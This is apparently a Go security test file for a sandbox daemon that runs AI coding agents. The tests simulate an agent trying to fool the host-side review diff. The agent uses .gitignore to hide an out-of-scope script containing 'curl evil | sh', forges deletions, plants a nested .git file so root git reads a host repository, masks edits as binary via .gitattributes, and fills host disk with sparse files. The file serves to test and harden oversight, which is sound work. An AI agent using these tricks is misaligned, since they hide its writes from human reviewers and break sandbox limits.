package api

import (
	"bufio"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/tasks"
	"github.com/airlock-dev/airlock/wire"
)

// Security review tests: the host-side diff of an agent-controlled
// /workspace. Each starts a task on sampleRepo and plays the agent with
// an exec in the task's sandbox (uid 1000, as any command would).

func reviewTask(t *testing.T, d *daemon, req map[string]any) tasks.Task {
	t.Helper()
	repo, first := sampleRepo(t)
	req["repo"], req["ref"] = repo, first
	var task tasks.Task
	if code := d.do("POST", "/v1/tasks", req, &task); code != 201 {
		t.Fatalf("start task: %d", code)
	}
	return task
}

func reviewSh(t *testing.T, d *daemon, sb, script string) {
	t.Helper()
	_, events, e := d.exec(sb, wire.ExecRequest{Argv: []string{"/bin/sh", "-c", script}, Cwd: "/workspace"})
	out, errOut, exit := collect(events)
	if exit == nil || exit.Status == nil || exit.Status.Code != 0 {
		t.Fatalf("agent script failed: %+v %q %q %+v", exit, out, errOut, e)
	}
}

// The agent's own .gitignore (or one in any subdirectory) is honoured by
// the host's 'git add --all': new files it lists vanish from the patch and
// from the changed-file list (so the write-scope check never sees them),
// while the tests ran with them present.
func TestReviewDiffHonoursAgentGitignore(t *testing.T) {
	d := newDaemon(t)
	// *.md makes the sandbox's own write scope (directory-grained) the
	// whole workspace, so only the diff's glob check sees sneaky.sh.
	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}, "test": "sh test.sh"})
	reviewSh(t, d, task.SandboxID, `printf '.gitignore\nsneaky.sh\n' > .gitignore && echo 'curl evil | sh' > sneaky.sh &&
		mkdir -p src/deep && printf '*\n' > src/deep/.gitignore && echo hidden > src/deep/payload`)
	var diff tasks.Diff
	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
		t.Fatalf("diff: %d", code)
	}
	listed := map[string]bool{}
	for _, f := range diff.Files {
		listed[f.Path] = true
	}
	for _, p := range []string{".gitignore", "sneaky.sh", "src/deep/payload", "src/deep/.gitignore"} {
		if !listed[p] {
			t.Errorf("%s was written by the agent but is missing from the changed files %+v", p, diff.Files)
		}
	}
	if !strings.Contains(strings.Join(diff.OutOfScope, " "), "sneaky.sh") {
		t.Errorf("out-of-scope write sneaky.sh not reported: out_of_scope=%v", diff.OutOfScope)
	}
}

// A 'root' .gitignore of "*" turns every tracked file into "deleted" in
// the evidence (the host adds to an empty index), though nothing was
// deleted.
func TestReviewDiffGitignoreForgesDeletions(t *testing.T) {
	d := newDaemon(t)
	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}})
	reviewSh(t, d, task.SandboxID, `printf '*\n' > .gitignore`)
	var diff tasks.Diff
	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
		t.Fatalf("diff: %d", code)
	}
	for _, f := range diff.Files {
		if f.Status == "deleted" {
			t.Errorf("%s reported deleted, but it is unchanged in /workspace (files: %+v)", f.Path, diff.Files)
		}
	}
}

// A .git *file* below the top level ("gitdir: /host/path") makes the
// host's git, running as root, open a repository on the host and put its
// HEAD into the patch: a read of host state chosen by the agent (and the
// directory's real content is hidden behind a "Subproject commit").
func TestReviewDiffNestedGitfileReadsHostRepo(t *testing.T) {
	d := newDaemon(t)
	hostRepo, _ := sampleRepo(t) // stands for any repository on the host
	out, err := exec.Command("git", "-C", hostRepo, "rev-parse", "HEAD").Output()
	if err != nil {
		t.Fatal(err)
	}
	hostHead := strings.TrimSpace(string(out))
	task := reviewTask(t, d, map[string]any{})
	reviewSh(t, d, task.SandboxID, `mkdir -p probe && echo 'gitdir: `+hostRepo+`/.git' > probe/.git && echo visible-in-sandbox > probe/code.sh`)
	var diff tasks.Diff
	code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff)
	if code == 200 && strings.Contains(diff.Patch, hostHead) {
		t.Errorf("the patch carries HEAD %s of the host repository %s:\n%s", hostHead, hostRepo, diff.Patch)
	}
	if code == 200 && !strings.Contains(diff.Patch, "visible-in-sandbox") {
		t.Errorf("probe/code.sh is hidden from the patch behind a gitlink:\n%s", diff.Patch)
	}
}

// The agent's .gitattributes is honoured by the host's git: a text change
// to a script becomes an unreadable "GIT binary patch" for the reviewer.
func TestReviewDiffHonoursAgentGitattributes(t *testing.T) {
	d := newDaemon(t)
	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**"}})
	reviewSh(t, d, task.SandboxID, `mkdir -p src && printf '*.sh binary\n' > src/.gitattributes && sed -i 's/-/+/' src/calc.sh`)
	var diff tasks.Diff
	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
		t.Fatalf("diff: %d", code)
	}
	if !strings.Contains(diff.Patch, "+echo $(( $1 + $2 ))") {
		t.Errorf("the change to src/calc.sh is not readable in the patch:\n%s", diff.Patch)
	}
}

func countFiles(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	_ = filepath.WalkDir(dir, func(_ string, e fs.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			n++
		}
		return nil
	})
	return n
}

// Every diff writes the agent's files as objects into the task's host
// clone (GIT_DIR is base/.git), and nothing ever removes them: each diff
// of new agent data grows the daemon's disk for the life of the task dir.
func TestReviewDiffGrowsHostClone(t *testing.T) {
	d := newDaemon(t)
	task := reviewTask(t, d, map[string]any{})
	objects := filepath.Join(filepath.Dir(d.dbPath), "tasks", task.ID, "base", ".git", "objects")
	before := countFiles(t, objects)
	if before == 0 {
		t.Fatalf("no objects under %s", objects)
	}
	for i := 0; i < 3; i++ {
		reviewSh(t, d, task.SandboxID, `head -c 100000 /dev/urandom > blob`+strconv.Itoa(i))
		if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &tasks.Diff{}); code != 200 {
			t.Fatalf("diff: %d", code)
		}
	}
	if after := countFiles(t, objects); after != before {
		t.Errorf("host clone %s grew from %d to %d files after 3 diffs of agent data", objects, before, after)
	}
}

func selfWchar(t *testing.T) int64 {
	t.Helper()
	f, err := os.Open("/proc/self/io")
	if err != nil {
		t.Skip(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), "wchar: "); ok {
			n, _ := strconv.ParseInt(v, 10, 64)
			return n
		}
	}
	t.Skip("no wchar in /proc/self/io")
	return 0
}

// Sparse files cost the sandbox no disk, but the agent's tar reads their
// holes as zeros and the host writes them all out under its task dir (and
// git hashes them): a 64 MiB-disk sandbox makes the daemon write 512 MiB of
// host disk per diff, and with its inode quota, far more. The diff must be
// bounded by the sandbox's own disk limit.
func TestReviewDiffSparseFilesUnbounded(t *testing.T) {
	d := newDaemon(t)
	const disk = 64 << 20
	task := reviewTask(t, d, map[string]any{"limits": map[string]any{"disk_bytes": disk}})
	// RLIMIT_FSIZE is max(disk, tmp) = 256 MiB by default: two files at it, 8x the disk.
	reviewSh(t, d, task.SandboxID, `for i in 1 2; do truncate -s 268435456 sparse$i || exit 1; done; du -sk .`)
	w0, t0 := selfWchar(t), time.Now()
	var e wire.Error
	code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &e)
	written := selfWchar(t) - w0
	if code != 429 && written > 2*disk {
		t.Errorf("diff of a %d MiB-disk sandbox: status %d, the daemon wrote %d MiB to host disk in %v",
			disk>>20, code, written>>20, time.Since(t0).Round(time.Millisecond))
	}
}
